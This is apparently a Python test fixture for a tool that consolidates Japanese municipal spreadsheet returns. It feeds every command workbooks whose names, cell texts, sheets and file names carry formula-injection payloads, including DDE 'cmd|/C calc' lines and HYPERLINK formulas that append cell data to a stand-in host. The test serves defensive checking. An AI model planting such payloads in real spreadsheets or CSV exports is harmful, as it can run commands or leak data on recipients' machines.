"""A whole collection in which every name and every text tries to become a formula; all that the product writes of it."""

import contextlib
import io
from dataclasses import dataclass
from pathlib import Path

from tests.collected_workbook import OWN, RECIPIENTS, SENDER, CollectedWorkbook
from tests.hostile.packages import zipped
from tests.returned_workbooks import Table, write_return
from tests.threats.hostile_returns import parts_of
from xl_kenten.cli import main
from xl_kenten.core.lg_code import check_digit

PREFECTURE = "例示県"
MARK = "PWN"  # stands in every name and text of others, and in nothing that is ours
NAMES = (
    f'=HYPERLINK("http://{MARK}.invalid")市',  # no name is longer than 40 characters
    f"+{MARK}+cmd|'/C calc'!A0市",
    f"-{MARK}町",
    f"@SUM({MARK})町",
    f"＝{MARK}村",
    f"{{={MARK}}}村",
    f"'={MARK}市",
)
TEXTS = (
    f'=HYPERLINK("http://{MARK}.invalid/?"&A1,"平成19年7月末に改める")',
    f"+{MARK} 平成19年7月末に改める",
    f"-{MARK} 平成19年7月末に改める",
    f"@{MARK} 平成19年7月末に改める",
    f"\t={MARK} 平成19年7月末に改める",
    f"\r={MARK} 平成19年7月末に改める",
    f"=cmd|'/C calc'!{MARK} 平成19年7月末に改める",
)
# Neither a sheet nor, on Windows, a file can bear every name; these can stand wherever the tests run.
SHEETS = (f"={MARK}+1", f"+{MARK}", f"-{MARK}", f"@{MARK}", f"={MARK}!A1", f"a'&{MARK}&'a", f'"&{MARK}&"')
FILES = tuple(f"{start}{MARK}.xlsx" for start in ("=1+", "+", "-", "@", "=cmd;", "＝", "%0A="))
_CODES = tuple(f"99{301 + number}" + check_digit(f"99{301 + number}") for number in range(len(NAMES)))
_FAR_DAY = 73_050
_CARRIAGE_RETURN = "cr-here"


@dataclass(frozen=True)
class Poisoned:
    """The folder of all that was written, what was said, and the returns it came from."""

    out: Path
    said: str
    returns: Path

    def files(self, suffix: str) -> dict[str, bytes]:
        return {
            path.relative_to(self.out).as_posix(): path.read_bytes()
            for path in sorted(self.out.rglob(f"*{suffix}"))
        }


def poisoned(folder: Path) -> Poisoned:
    """Let every command write what it can write of such returns."""
    returns, faulty, out = folder / "回答", folder / "誤り", folder / "出力"
    for each in (returns, faulty, out):
        each.mkdir()
    own_list = folder / "一覧.csv"
    lines = (
        f'{code},"{name.replace(chr(34), chr(34) * 2)}"\n' for code, name in zip(_CODES, NAMES, strict=True)
    )
    own_list.write_text("code,name\n" + "".join(lines), encoding="utf-8")
    for number, file in enumerate(FILES):
        _send(returns / file, number, "1", TEXTS[number])
        _send(faulty / file, number, f"'{TEXTS[number].strip()}", f"={MARK}") if number else None
    who = ("--municipalities", own_list)
    book, second = out / "報告.xlsm", out / "二冊目.xlsm"
    run = _Run()
    run("new", PREFECTURE, *who, "--out", book)
    run("consolidate", returns, "--prefecture", PREFECTURE, *who, "--into", book, "--json", out / "into.json")
    run(
        "consolidate",
        faulty,
        "--prefecture",
        PREFECTURE,
        *who,
        "--out",
        out / "誤り.xlsx",
        "--json",
        out / "e.json",
    )
    complete(folder, book)
    for words in (("summary",), ("gate",), ("trace", "F8")):
        run(words[0], book, *words[1:])
    run("submit", book, "--out", out / "提出", "--json", out / "submit.json")
    run("give-back", book, "--out", out / "還元")
    run("send-forms", book, "--out", out / "配布の下書き")
    run("distribute", PREFECTURE, *who, "--out", out / "様式", "--ledger")
    run(
        "check",
        faulty,
        "--prefecture",
        PREFECTURE,
        *who,
        "--mark",
        out / "確認用",
        "--json",
        out / "check.json",
    )
    run("new", PREFECTURE, *who, "--out", second)
    run("consolidate", faulty, "--prefecture", PREFECTURE, *who, "--into", second)
    complete(folder, second)
    run("remind", second, "--out", out / "督促")
    run("send-back", second, faulty, "--out", out / "差戻し")
    nation = folder / "全国.csv"
    nation.write_text(
        "code,name,prefecture\n" + "".join(f"{line.rstrip()},{PREFECTURE}\n" for line in lines_of(own_list)),
        "utf-8",
    )
    run("rollup", out / "提出", "--nation", nation, "--out", out / "全国集計.xlsx")
    return Poisoned(out, run.said, returns)


def lines_of(own_list: Path) -> list[str]:
    return own_list.read_text("utf-8").splitlines()[1:]


class _Run:
    """Runs commands and keeps what they say; each must find errors at most."""

    def __init__(self) -> None:
        self.said = ""

    def __call__(self, *words: object) -> None:
        stream = io.StringIO()
        with contextlib.redirect_stdout(stream), contextlib.redirect_stderr(stream):
            status = main([str(word) for word in words])
        self.said += stream.getvalue()
        assert status in {0, 1}, stream.getvalue()


def _send(path: Path, number: int, flag: str, text: str) -> None:
    shown = text.replace("\r", _CARRIAGE_RETURN).replace("|", "¦")
    row = f"| {number + 1} | '{NAMES[number].replace('|', '¦')} | {flag.replace('|', '¦').replace(chr(9), '')} | 0 | 0 | '{shown} | 0 | 0 | 0 | | 0 | 0 | |"
    write_return(path, Table(row, sheet=SHEETS[number]))
    found = parts_of(path.read_bytes())
    strings = found["xl/sharedStrings.xml"]
    for stand_in, real in ((_CARRIAGE_RETURN, "&#13;"), ("¦", "|")):
        strings = strings.replace(stand_in.encode(), real.encode())
    path.write_bytes(zipped(found | {"xl/sharedStrings.xml": strings}))


def complete(folder: Path, path: Path) -> None:
    """What the staff type themselves."""
    book = CollectedWorkbook(folder, path.read_bytes())
    book.type("都道府県分", **{f"{chr(ord('C') + n)}8": value for n, value in enumerate(OWN)})
    for number, address in enumerate(RECIPIENTS[:2], start=1):
        book.set(f"報告先{number}", address)
    book.set("差出人（署名）", SENDER)
    for label in ("国への報告期限", "都道府県が定めた期限"):
        book.set(label, _FAR_DAY)
    path.write_bytes(book.path.read_bytes())
